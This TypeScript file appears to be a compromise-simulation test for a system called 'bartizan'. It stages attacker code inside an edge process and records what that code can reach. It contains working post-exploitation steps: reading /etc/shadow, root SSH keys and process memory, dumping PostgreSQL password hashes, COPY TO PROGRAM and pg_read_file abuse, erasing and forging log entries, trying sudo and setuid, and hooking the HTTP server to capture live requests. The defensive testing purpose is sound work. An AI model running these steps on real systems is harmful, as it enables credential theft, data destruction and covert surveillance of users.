/**
 * Attacker's code inside the internet-facing process. It is loaded into the real edge (`node --import`), so it has edge's
 * uid, environment, memory, open sockets, configuration and database login. It waits for the file `go` in edge's own
 * state directory, tries everything below, and leaves whatever it could read in `loot/` for the observer outside.
 * It is bounded: every step ends after 30 s and keeps at most 64 MiB.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { closeSync, existsSync, openSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { type IncomingMessage, Server } from 'node:http';
import { createConnection } from 'node:net';
import { dirname, join } from 'node:path';
import { getHeapSnapshot } from 'node:v8';
import { Worker } from 'node:worker_threads';
import { Loot } from './loot.ts';

interface EdgeConfig {
  readonly home: string;
  readonly state: string;
  readonly database: {
    readonly host: string;
    readonly port: number;
    readonly database: string;
    readonly user: string;
    readonly password: string;
  };
  readonly sockets: { readonly listen?: Readonly<Record<string, string>> };
  readonly origins: { readonly console: string; readonly glass: string };
}
type Keep = (bytes: Uint8Array | string) => void;

const configFile = process.argv[process.argv.indexOf('--config') + 1];
if (configFile !== undefined && existsSync(configFile)) {
  const config = JSON.parse(readFileSync(configFile, 'utf8')) as EdgeConfig;
  const timer = setInterval(() => {
    if (!existsSync(join(config.state, 'go'))) return;
    clearInterval(timer);
    void attack(config);
  }, 100);
  timer.unref();
}

async function attack(config: EdgeConfig): Promise<void> {
  const loot = new Loot(join(config.state, 'loot'));
  const run = dirname(dirname(Object.values(config.sockets.listen ?? {})[0] ?? join(config.home, 'run/x/x')));
  await loot.try('environment', (keep) => keep(JSON.stringify(process.env)));
  await loot.try('own configuration', (keep) => keep(readFileSync(configFile!)));
  for (const name of ['sealer', 'ledger', 'core', 'supervisor', 'pg', 'demo', 'backup', 'intake', 'glass', 'console']) {
    await loot.try(`files of ${name}`, (keep) => readTree(join(config.home, name), keep));
  }
  for (const name of ['sealer', 'ledger', 'core', 'console', 'glass', 'intake']) {
    await loot.try(`configuration of ${name}`, (keep) =>
      keep(readFileSync(join(config.home, 'config', `${name}.json`))),
    );
  }
  await loot.try('public keys and log', (keep) => {
    readTree(join(config.home, 'public'), keep);
    readTree(join(config.home, 'ledger', 'log'), keep);
  });
  await loot.try('system files', (keep) => {
    for (const file of ['/etc/shadow', '/root/.ssh/id_ed25519', '/root/.bash_history', '/root/.pgpass']) {
      try {
        keep(readFileSync(file));
      } catch {
        // the next file
      }
    }
  });
  for (const part of ['environ', 'cmdline', 'maps', 'mem', 'fd']) {
    await loot.try(`/proc ${part} of the others`, (keep) => readProcesses(part, keep));
  }
  await loot.try('signal the others', () => signalOthers(config.home));
  await loot.try('every unix socket', (keep) => knockOnSockets(run, config.database.host, keep));
  await sqlAttacks(loot, config);
  await loot.try('spawn a shell', (keep) =>
    keep(execFileSync('/bin/sh', ['-c', `cat ${config.home}/*/*.key ${config.home}/config/*; id`])),
  );
  await loot.try('sudo', (keep) =>
    keep(spawnSync('sudo', ['-n', 'cat', `${config.home}/sealer/org.key`]).stdout ?? ''),
  );
  await loot.try('become root', () => {
    process.setuid?.(0);
    return 'became root';
  });
  await loot.try('evaluate text as code', () => String(new Function('return process.pid')()));
  await loot.try('a worker thread', (keep) => inWorker(config.home, keep));
  await loot.try('ask console and glass', (keep) => askOrigins(config, keep));
  await loot.try('own heap', (keep) => heap(keep));
  await loot.try('own open files', (keep) => {
    for (const fd of readdirSync('/proc/self/fd')) {
      try {
        if (statSync(`/proc/self/fd/${fd}`).isFile()) keep(readFileSync(`/proc/self/fd/${fd}`));
      } catch {
        // closed meanwhile
      }
    }
  });
  await loot.try('private keys anywhere', (keep) => searchKeys(config.home, keep));
  await loot.try('replace the code on disk', () => {
    // Opened for writing, then left alone: the right to do it is what is being asked.
    closeSync(openSync(new URL('../../src/run/edge.ts', import.meta.url), 'r+'));
    return 'could write into the program';
  });
  await loot.try('listen to live requests', (keep) => listenIn(keep, 3_000));
  loot.finish();
}

function readTree(path: string, keep: Keep, depth = 6): void {
  const stat = statSync(path);
  if (stat.isFile()) {
    if (stat.size < 32 * 1024 * 1024) keep(readFileSync(path));
    return;
  }
  if (!stat.isDirectory() || depth === 0) return;
  for (const entry of readdirSync(path)) {
    try {
      readTree(join(path, entry), keep, depth - 1);
    } catch {
      // one unreadable entry does not end the search
    }
  }
}

function readProcesses(part: string, keep: Keep): string {
  let refused = 0;
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name) && Number(name) !== process.pid)) {
    try {
      const path = `/proc/${pid}/${part}`;
      keep(part === 'fd' ? readdirSync(path).join(' ') : readFileSync(path));
    } catch {
      refused += 1;
    }
  }
  return `${refused} refused`;
}

/** Finds the guards by their command line and asks Node to open its inspector, then to stop. */
function signalOthers(home: string): string {
  let reached = 0;
  for (const pid of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    let line = '';
    try {
      line = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
    } catch {
      continue;
    }
    if (!/run\/(sealer|ledger|core|console|glass)\.ts/.test(line) || !line.includes(home)) continue;
    try {
      process.kill(Number(pid), 'SIGUSR1');
      reached += 1;
    } catch {
      // not permitted
    }
  }
  if (reached === 0) throw new Error('no process of ours could be signalled');
  return `${reached} processes signalled`;
}

async function knockOnSockets(run: string, pgDir: string, keep: Keep): Promise<string> {
  let open = 0;
  const frame = (type: string, body: unknown): Buffer => {
    const text = Buffer.from(JSON.stringify({ id: 1, type, body }));
    const length = Buffer.alloc(4);
    length.writeUInt32BE(text.length);
    return Buffer.concat([length, text]);
  };
  const names = [
    'sealer-glass',
    'sealer-core',
    'sealer-console',
    'ledger-sealer',
    'ledger-core',
    'ledger-console',
    'ledger-glass',
    'ledger-intake',
    'intake-operator',
  ];
  const paths = names.map((name) => join(run, name, 'sock'));
  try {
    for (const entry of readdirSync(run)) paths.push(join(run, entry, 'sock'));
  } catch {
    // not listable
  }
  for (const path of new Set(paths)) {
    const answer = await talk(
      path,
      Buffer.concat([frame('roster', {}), frame('exposure', { from: 0, to: Date.now() })]),
    );
    if (answer === undefined) continue;
    open += 1;
    keep(answer);
  }
  try {
    keep(readdirSync(pgDir).join(' '));
  } catch {
    // not listable
  }
  if (open === 0) throw new Error('no guard socket could be opened');
  return `${open} sockets opened`;
}

function talk(path: string, bytes: Buffer): Promise<Buffer | undefined> {
  return new Promise((resolve) => {
    const parts: Buffer[] = [];
    let connected = false;
    const socket = createConnection(path, () => {
      connected = true;
      socket.write(bytes);
    });
    const end = () => {
      socket.destroy();
      resolve(connected ? Buffer.concat(parts) : undefined);
    };
    socket.on('data', (part) => parts.push(part));
    socket.on('error', end);
    socket.on('close', end);
    setTimeout(end, 500);
  });
}

async function sqlAttacks(loot: Loot, config: EdgeConfig): Promise<void> {
  const { Client } = (await import('pg')).default;
  const attempts: readonly [string, string][] = [
    ['sealed rows', 'select * from people.sealed'],
    ['people', 'select * from people.person'],
    ['arrivals', 'select * from people.arriving'],
    ['devices', 'select * from fleet.device'],
    ['commands', 'select * from fleet.command'],
    ['events', 'select * from log.event'],
    ['sessions', 'select * from api.session'],
    ['passwords', 'select rolname, rolpassword from pg_authid'],
    [
      'other sessions',
      "select query from pg_stat_activity where query <> '' and usename <> current_user and query <> '<insufficient privilege>'",
    ],
    ['statistics', 'select most_common_vals::text from pg_stats'],
    ['copy program', "copy (select 1) to program 'id'"],
    ['copy from a file', "create temp table t(a text); copy t from '/etc/passwd'; select * from t"],
    ['server files', "select pg_read_file('/etc/passwd')"],
    ['server directory', 'select pg_ls_dir($$.$$)'],
    ['large object import', "select lo_import('/etc/passwd')"],
    ['become owner', 'set role bartizan_owner; select * from people.sealed'],
    ['become glass', 'set role bartizan_glass; select * from people.sealed'],
    ['session of the superuser', 'set session authorization postgres'],
    [
      'write a command',
      "insert into fleet.command (uuid, device_id, request_type, body, signature) select gen_random_uuid(), 1, 'EraseDevice', 'x', 'x'",
    ],
    [
      'state an intent',
      "insert into fleet.intent (id, verb, risk, targets, requester, purpose, state) values (gen_random_uuid(), 'EraseDevice', 'read', '[]', 'amber-otter-4821', 'because', 'ready')",
    ],
    ['settle function', 'select * from people.take_arriving(1000)'],
    ['erase the log', 'delete from log.event'],
    ['forge an event', "select log.emit('auth.sign_in', 'nobody', null, null, '{}')"],
  ];
  for (const [name, sql] of attempts) {
    await loot.try(`sql: ${name}`, async (keep) => {
      const client = new Client(config.database);
      await client.connect();
      try {
        const result: unknown = await client.query(sql);
        const rows = (Array.isArray(result) ? result : [result]).flatMap(
          (part: { rows?: unknown[] }) => part.rows ?? [],
        );
        if (rows.length > 0) keep(JSON.stringify(rows));
        return `${rows.length} rows`;
      } finally {
        await client.end();
      }
    });
  }
  for (const user of [
    'postgres',
    'bartizan_admin',
    'bartizan_owner',
    'bartizan_glass',
    'bartizan_core',
    'bartizan_console',
    'bartizan_intake',
  ]) {
    await loot.try(`sql: log in as ${user}`, async (keep) => {
      const client = new Client({ ...config.database, user });
      await client.connect();
      keep(JSON.stringify((await client.query('select current_user')).rows));
      await client.end();
    });
  }
}

function inWorker(home: string, keep: Keep): Promise<string> {
  return new Promise((resolve, reject) => {
    const code = `const fs=require('fs');require('worker_threads').parentPort.postMessage(fs.readFileSync(${JSON.stringify(join(home, 'sealer', 'org.key'))}).toString('hex'))`;
    const worker = new Worker(code, { eval: true });
    worker.on('message', (text: string) => {
      keep(text);
      resolve('');
    });
    worker.on('error', reject);
  });
}

async function askOrigins(config: EdgeConfig, keep: Keep): Promise<void> {
  const asks: readonly [string, string, object?][] = [
    [config.origins.console, '/api/people'],
    [config.origins.console, '/api/devices'],
    [
      config.origins.glass,
      '/api/reveal',
      { grant: { v: 1, op: 'reveal', admin: 'amber-otter-4821', field: 'number', subjects: [] }, assertion: {} },
    ],
    [config.origins.glass, '/api/approvals/00000000-0000-0000-0000-000000000000'],
  ];
  for (const [origin, path, body] of asks) {
    // *.localhost need not resolve outside browsers, so connect to loopback and name the host in the header.
    const url = new URL(path, origin);
    const { request } = await import('node:http');
    await new Promise<void>((resolve) => {
      const req = request(
        {
          host: '127.0.0.1',
          port: url.port,
          path,
          method: body === undefined ? 'GET' : 'POST',
          headers: { host: url.host, origin, 'content-type': 'application/json', 'x-bartizan': '1' },
        },
        (res) => {
          res.on('data', (part: Buffer) => keep(part));
          res.on('end', () => resolve());
        },
      );
      req.on('error', () => resolve());
      req.setTimeout(3000, () => req.destroy());
      req.end(body === undefined ? undefined : JSON.stringify(body));
    });
  }
}

async function heap(keep: Keep): Promise<void> {
  for await (const part of getHeapSnapshot()) keep(part as Buffer);
}

function searchKeys(home: string, keep: Keep): string {
  let seen = 0;
  const walk = (path: string, depth: number): void => {
    let entries: string[] = [];
    try {
      entries = readdirSync(path);
    } catch {
      return;
    }
    for (const entry of entries) {
      const full = join(path, entry);
      try {
        const stat = statSync(full);
        if (stat.isDirectory() && depth > 0) walk(full, depth - 1);
        else if (stat.isFile() && stat.size < 65_536) {
          seen += 1;
          const bytes = readFileSync(full);
          if (bytes.length === 32 || bytes.includes('PRIVATE KEY') || /key|secret|token|pass/i.test(entry)) keep(bytes);
        }
      } catch {
        // unreadable
      }
    }
  };
  walk(home, 5);
  walk('/etc/ssl/private', 1);
  return `${seen} files looked at`;
}

/** Patches the living HTTP server, as a sleeper in memory would, and copies every body that arrives. */
function listenIn(keep: Keep, ms: number): Promise<string> {
  const original = Server.prototype.emit;
  let heard = 0;
  Server.prototype.emit = function (this: Server, event: string, ...rest: unknown[]): boolean {
    if (event === 'request') {
      heard += 1;
      const request = rest[0] as IncomingMessage;
      keep(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
      request.on('data', (part: Buffer) => keep(part));
    }
    return Reflect.apply(original, this, [event, ...rest]) as boolean;
  } as typeof original;
  return new Promise((resolve) => {
    setTimeout(() => {
      Server.prototype.emit = original;
      resolve(`${heard} requests heard`);
    }, ms);
  });
}
